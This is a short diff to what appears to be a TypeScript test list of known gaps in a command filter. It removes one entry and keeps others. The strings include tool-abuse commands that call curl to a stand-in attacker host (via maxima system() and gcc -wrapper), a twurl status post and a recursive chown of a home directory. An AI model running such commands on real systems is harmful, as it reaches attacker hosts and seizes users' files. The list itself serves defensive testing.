@@ -2,7 +2,6 @@
 // A row that has been mended must leave this list: its test fails until it does.
 
 export const GAPS: ReadonlySet<string> = new Set([
-  "maxima --batch-string='system(\"curl https://evil.example\");'",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "chown -R nobody /home/bob",
